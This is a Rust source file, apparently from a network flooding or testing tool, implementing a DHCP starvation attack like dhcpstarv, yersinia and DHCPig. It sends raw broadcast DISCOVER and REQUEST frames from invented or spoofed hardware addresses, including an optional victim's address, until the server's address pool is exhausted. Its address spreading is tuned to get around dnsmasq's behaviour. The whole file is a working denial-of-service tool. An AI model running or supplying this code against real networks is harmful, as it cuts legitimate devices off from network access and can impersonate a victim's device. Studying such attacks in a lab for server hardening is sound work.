//! A device that takes addresses by DHCP for others that it invents, as dhcpstarv, yersinia and `DHCPig` do.

use std::collections::{HashMap, HashSet};
use std::net::Ipv4Addr;
use std::os::fd::AsRawFd as _;
use std::time::{Duration, Instant};

use clap::{Args, ValueEnum};
use nix::sys::socket::{MsgFlags, SockProtocol, recv, send, setsockopt, sockopt};
use nix::sys::time::TimeVal;

use crate::flood::{hardware, udp};
use crate::wire::open;

/// How devices are invented.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Invention {
    /// Each has a hardware address of its own, and sends from it
    Devices,
    /// Each has one in its request alone; all is sent from the same
    Clients,
    /// All have the same as far as it is one, with more octets behind it
    Longer,
}

/// What to ask for, at `eth0`.
#[derive(Debug, Args)]
pub struct Starve {
    /// How devices are invented
    kind: Invention,
    /// Own hardware address, such as 02:00:00:00:00:01
    #[arg(long)]
    mac: String,
    /// Another's hardware address, for whom to ask instead of inventing one
    #[arg(long)]
    victim: Option<String>,
    /// Seconds
    #[arg(long, default_value_t = 4)]
    seconds: u64,
    /// Devices at most, which then ask until all have an address
    #[arg(long, default_value_t = u32::MAX)]
    most: u32,
    /// Asked and not answered yet
    #[arg(long, default_value_t = 64)]
    at_once: usize,
}

/// After which a device asks again, or another is invented in its stead.
const PATIENCE: Duration = Duration::from_secs(1);
const SERVER_PORT: u16 = 67;
const CLIENT_PORT: u16 = 68;
const BROADCAST: [u8; 6] = [0xff; 6];
/// RFC 2131 §3, RFC 2132 §9.6.
const COOKIE: [u8; 4] = [99, 130, 83, 99];
const DISCOVER: u8 = 1;
const OFFER: u8 = 2;
const REQUEST: u8 = 3;
const ACK: u8 = 5;

/// What a server says.
struct Answer {
    kind: u8,
    transaction: u32,
    address: Ipv4Addr,
    device: [u8; 6],
    server: Option<Ipv4Addr>,
}

impl Starve {
    /// For so long, or until it has so many; how many it got.
    ///
    /// # Errors
    /// No root, or no interface `eth0`.
    pub fn run(&self) -> anyhow::Result<usize> {
        let (wire, own) = (open("eth0", Some(SockProtocol::EthIp))?, hardware(&self.mac)?);
        let victim = self.victim.as_deref().map(hardware).transpose()?;
        setsockopt(&wire, sockopt::ReceiveTimeout, &TimeVal::new(0, 10_000))?;
        let until = Instant::now() + Duration::from_secs(self.seconds);
        let (mut number, mut waiting, mut settled) = (0_u32, HashMap::new(), HashSet::new());
        let mut due: Vec<u32> = Vec::new();
        while Instant::now() < until && settled.len() < usize::try_from(self.most)? {
            waiting.retain(|one, asked: &mut Instant| {
                let is_due = asked.elapsed() >= PATIENCE;
                due.extend(is_due.then_some(*one));
                !is_due
            });
            while waiting.len() < self.at_once {
                // Whoever may invent no more asks again for those he has.
                let fresh = (number < self.most).then_some(number + 1);
                let Some(next) = fresh.or_else(|| due.pop()) else {
                    break;
                };
                number = number.max(next);
                waiting.insert(next, Instant::now());
                let frame = self.request(self.device(own, victim, next), next, DISCOVER, &[]);
                // A full queue is no reason to stop.
                _ = send(wire.as_raw_fd(), &frame, MsgFlags::empty());
            }
            let mut frame = [0; 2048];
            let Ok(length) = recv(wire.as_raw_fd(), &mut frame, MsgFlags::empty()) else {
                continue;
            };
            let answer = frame.get(..length).and_then(read);
            // Others hear what is said to all as well.
            let asked = answer.map(|one| (self.device(own, victim, one.transaction), one));
            let Some((device, answer)) = asked.filter(|((device, _), one)| one.device == *device) else {
                continue;
            };
            match (answer.kind, answer.server) {
                (OFFER, Some(server)) => {
                    let wanted = [&[50, 4][..], &answer.address.octets(), &[54, 4], &server.octets()].concat();
                    let frame = self.request(device, answer.transaction, REQUEST, &wanted);
                    _ = send(wire.as_raw_fd(), &frame, MsgFlags::empty());
                }
                (ACK, _) => {
                    waiting.remove(&answer.transaction);
                    due.retain(|one| *one != answer.transaction);
                    settled.insert(answer.transaction);
                }
                _ => {}
            }
        }
        Ok(settled.len())
    }

    /// Who the device of this number is, to the server and in the frame.
    fn device(&self, own: [u8; 6], victim: Option<[u8; 6]>, number: u32) -> ([u8; 6], [u8; 6]) {
        // As far from each other as real ones: dnsmasq offers those that follow one another the same address as long as nobody has taken it.
        let [_, n1, n2, n3] = number.wrapping_mul(0x009e_37b1).to_be_bytes();
        // So that no two who do this invent the same.
        let [.., high, low] = std::process::id().to_be_bytes();
        let invented = victim.unwrap_or([0x0a, high, low, n1, n2, n3]);
        match self.kind {
            Invention::Devices => (invented, invented),
            Invention::Clients => (invented, own),
            Invention::Longer => (own, own),
        }
    }

    /// Of a device and its frame, by its number, which is its transaction too.
    fn request(&self, (device, from): ([u8; 6], [u8; 6]), number: u32, kind: u8, options: &[u8]) -> Vec<u8> {
        let length = if self.kind == Invention::Longer { 16 } else { 6 };
        let transaction = number.to_be_bytes();
        let mut message = vec![1, 1, length, 0];
        message.extend(transaction);
        message.extend([0, 0, 0x80, 0]);
        message.resize(28, 0);
        message.extend(device);
        if length > 6 {
            message.extend(transaction);
        }
        message.resize(236, 0);
        message.extend(COOKIE);
        message.extend([53, 1, kind]);
        message.extend(options);
        message.push(255);
        message.resize(message.len().max(300), 0);
        let (nobody, all) = (Ipv4Addr::UNSPECIFIED, Ipv4Addr::BROADCAST);
        udp(from, BROADCAST, (nobody, CLIENT_PORT), (all, SERVER_PORT), &message)
    }
}

/// A frame with an answer of a server.
fn read(frame: &[u8]) -> Option<Answer> {
    let packet = frame.get(14..)?;
    let header = usize::from(packet.first()? & 0xf) * 4;
    let is_udp = *packet.get(9)? == 17;
    let ports = packet.get(header..header + 4)?;
    if !is_udp || *ports != [0, 67, 0, 68] {
        return None;
    }
    let message = packet.get(header + 8..)?;
    let four = |at: usize| message.get(at..)?.first_chunk::<4>().copied();
    let mut answer = Answer {
        kind: 0,
        transaction: u32::from_be_bytes(four(4)?),
        address: four(16)?.into(),
        device: *message.get(28..)?.first_chunk()?,
        server: None,
    };
    let mut options = message.get(240..)?;
    while let [kind, length, rest @ ..] = options {
        let (value, after) = rest.split_at_checked(usize::from(*length))?;
        match (kind, value) {
            (53, [kind]) => answer.kind = *kind,
            (54, [a, b, c, d]) => answer.server = Some([*a, *b, *c, *d].into()),
            (255, _) => break,
            _ => {}
        }
        options = after;
    }
    Some(answer)
}
